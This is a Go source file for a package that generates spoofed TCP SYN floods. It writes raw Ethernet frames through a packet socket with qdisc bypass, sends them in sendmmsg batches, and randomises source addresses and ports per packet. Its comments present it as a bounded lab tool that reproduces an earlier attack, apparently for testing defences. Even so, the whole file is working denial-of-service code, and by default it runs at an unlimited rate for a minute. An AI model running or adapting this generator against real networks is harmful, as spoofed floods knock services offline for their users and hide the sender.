// Package flood makes the SYN floods that the lab is attacked with: many packets a system call, each from another source.
// It is bounded in rate, number and time, and sends to one Ethernet neighbour on one interface.
package flood

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"runtime"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Config is what a flood looks like. The zero value of all but Targets, Interface and Gateway is the flood of that night:
// SYNs without options, window 0, from anywhere.
type Config struct {
	Targets   []netip.AddrPort // in turn; all of one IP version
	Interface string
	Gateway   net.HardwareAddr

	Rate  int           // packets a second; 0: as many as can be sent
	Count uint64        // the number of packets; 0: no bound
	For   time.Duration // 0: a minute

	Sources    netip.Prefix // zero: anywhere; 2000::/4 for IPv6
	SourcePort uint16       // 0: a random one for each packet
	Flags      uint8        // TCP's; 0: SYN
	Window     uint16
	Options    []byte // TCP's, a multiple of four bytes, at most 40
	TTL        uint8  // 0: 64
}

// batch is the number of packets a system call.
const batch = 64

// A Generator sends one flood.
type Generator struct {
	config    Config
	socket    int
	templates []template
	sources   block
	random    *rand.PCG

	frames   [batch][]byte
	messages [batch]message
}

// message is the kernel's struct mmsghdr.
type message struct {
	header unix.Msghdr
	length uint32
}

// New opens a packet socket in the network of the calling thread.
func New(config Config) (*Generator, error) {
	if err := config.complete(); err != nil {
		return nil, err
	}
	device, err := net.InterfaceByName(config.Interface)
	if err != nil {
		return nil, err
	}
	// Protocol 0: it only sends.
	socket, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, fmt.Errorf("packet socket: %w", err)
	}
	err = errors.Join(
		unix.Bind(socket, &unix.SockaddrLinklayer{Ifindex: device.Index}),
		unix.SetsockoptInt(socket, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1),
	)
	if err != nil {
		return nil, errors.Join(fmt.Errorf("packet socket on %s: %w", config.Interface, err), unix.Close(socket))
	}
	g := &Generator{config: config, socket: socket, sources: newBlock(config.Sources), random: rand.NewPCG(rand.Uint64(), rand.Uint64())}
	for _, target := range config.Targets {
		g.templates = append(g.templates, newTemplate(config, target, device.HardwareAddr))
	}
	return g, nil
}

func (c *Config) complete() error {
	if len(c.Targets) == 0 {
		return errors.New("flood: no targets")
	}
	v4 := c.Targets[0].Addr().Is4()
	for _, target := range c.Targets {
		if target.Addr().Is4() != v4 {
			return errors.New("flood: targets of both IP versions")
		}
	}
	if !c.Sources.IsValid() {
		if c.Sources = netip.MustParsePrefix("2000::/4"); v4 {
			c.Sources = netip.MustParsePrefix("0.0.0.0/0")
		}
	}
	if c.Sources.Addr().Is4() != v4 {
		return fmt.Errorf("flood: sources %s are of another IP version than the targets", c.Sources)
	}
	if len(c.Options)%4 != 0 || len(c.Options) > 40 {
		return fmt.Errorf("flood: %d bytes of TCP options", len(c.Options))
	}
	if len(c.Gateway) != 6 {
		return fmt.Errorf("flood: gateway %q is no Ethernet address", c.Gateway)
	}
	if c.For == 0 {
		c.For = time.Minute
	}
	if c.Flags == 0 {
		c.Flags = 0x02
	}
	if c.TTL == 0 {
		c.TTL = 64
	}
	return nil
}

// Run sends until one of the bounds is reached or stop is closed, and counts what the kernel took. It can run once.
func (g *Generator) Run(stop <-chan struct{}, sent *atomic.Uint64) error {
	defer unix.Close(g.socket)
	frameLength := len(g.templates[0].frame)
	vectors := make([]unix.Iovec, batch)
	for i := range batch {
		g.frames[i] = make([]byte, frameLength)
		vectors[i].Base = &g.frames[i][0]
		vectors[i].SetLen(frameLength)
		g.messages[i].header.Iov = &vectors[i]
		g.messages[i].header.SetIovlen(1)
	}
	began := time.Now()
	for next := 0; ; {
		select {
		case <-stop:
			return nil
		default:
		}
		elapsed := time.Since(began)
		count := g.due(elapsed, sent.Load())
		if elapsed >= g.config.For || g.config.Count > 0 && sent.Load() >= g.config.Count {
			return nil
		}
		if count == 0 {
			time.Sleep(time.Millisecond) // until the rate allows more
			continue
		}
		for i := range count {
			g.templates[next].packet(g.frames[i], g.random, &g.sources, g.config.SourcePort != 0)
			next = (next + 1) % len(g.templates)
		}
		if err := g.send(count, sent); err != nil {
			return err
		}
		runtime.KeepAlive(vectors)
	}
}

// due is the number of packets, at most a batch, that rate and count allow now.
func (g *Generator) due(elapsed time.Duration, sent uint64) int {
	count := uint64(batch)
	if g.config.Rate > 0 {
		allowed := uint64(elapsed.Seconds() * float64(g.config.Rate))
		count = min(count, max(allowed, sent)-sent)
	}
	if g.config.Count > 0 {
		count = min(count, max(g.config.Count, sent)-sent)
	}
	return int(count)
}

func (g *Generator) send(count int, sent *atomic.Uint64) error {
	for done := 0; done < count; {
		n, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(g.socket),
			uintptr(unsafe.Pointer(&g.messages[done])), uintptr(count-done), 0, 0, 0)
		switch errno {
		case 0:
			done += int(n)
			sent.Add(uint64(n))
		case unix.EINTR:
		case unix.ENOBUFS, unix.EAGAIN:
			return nil // the interface is full: what was not taken is not counted
		default:
			return fmt.Errorf("sendmmsg: %w", errno)
		}
	}
	return nil
}
